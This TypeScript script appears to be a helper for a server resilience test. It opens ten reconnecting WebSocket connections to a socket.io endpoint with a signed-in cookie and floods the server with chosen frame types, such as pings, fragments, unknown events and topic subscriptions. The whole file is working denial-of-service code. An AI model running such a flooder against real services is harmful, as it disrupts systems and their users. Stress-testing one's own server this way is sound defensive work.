// Ten sockets of one signed-in person that send one kind of packet as fast as the line takes it, and come again at once
// when they are cut off. In a process of its own, so that its work is not ours. Arguments: origin, cookie, kind.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

const SOCKETS = 10
/** Frames in one write: more than one read of the other side takes. */
const FRAMES_AT_ONCE = 5_000

const kinds: Record<string, Buffer> = {
  'unknown events': frame(0x81, '42["drop-everything",{"x":1}]'),
  namespaces: frame(0x81, '40/x,'),
  'engine noops': frame(0x81, '6'),
  'WebSocket pings': frame(0x89, ''),
  fragments: Buffer.concat([frame(0x01, '4'), ...new Array<Buffer>(50).fill(frame(0x00, ''))]),
  'binary packets': frame(0x82, 'x'),
  'answers to nothing': frame(0x81, '430[]'),
  subscriptions: frame(0x81, '420["subscribe",{"topics":["cameras","alerts","complaints","work-packages"]}]'),
  'only connecting': Buffer.alloc(0),
}

const [origin = '', cookie = '', kind = ''] = process.argv.slice(2)
const flood = Buffer.concat(new Array<Buffer>(FRAMES_AT_ONCE).fill(kinds[kind] ?? Buffer.alloc(0)))
const { host, hostname, port } = new URL(origin)
process.on('disconnect', () => process.exit(0))
process.send?.('started')
await Promise.all(Array.from({ length: SOCKETS }, attackForEver))

async function attackForEver(): Promise<void> {
  for (;;) {
    await attackOnce()
    // Ten reconnecting as fast as their machine can would measure this process and not the other.
    await sleep(1)
  }
}

async function attackOnce(): Promise<void> {
  const socket = connect({ host: hostname, port: Number(port) }).on('error', () => {})
  const gone = new Promise<void>((resolve) => socket.once('close', () => resolve()))
  socket.write(
    `GET /socket/?EIO=4&transport=websocket HTTP/1.1\r\nhost: ${host}\r\norigin: ${origin}\r\ncookie: ${cookie}\r\n` +
      'connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n' +
      'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  )
  let isIn = false
  socket.on('data', () => {
    if (isIn) return
    isIn = true
    socket.write(frame(0x81, '40'))
    if (flood.length === 0) socket.destroy()
    else pour()
  })
  const pour = () => {
    while (!socket.destroyed && socket.write(flood));
  }
  socket.on('drain', pour)
  await gone
}

/** One frame as a browser sends it; a mask of zeros leaves the text as it is. */
function frame(firstByte: number, text: string): Buffer {
  return Buffer.concat([Buffer.from([firstByte, 0x80 | text.length, 0, 0, 0, 0]), Buffer.from(text)])
}
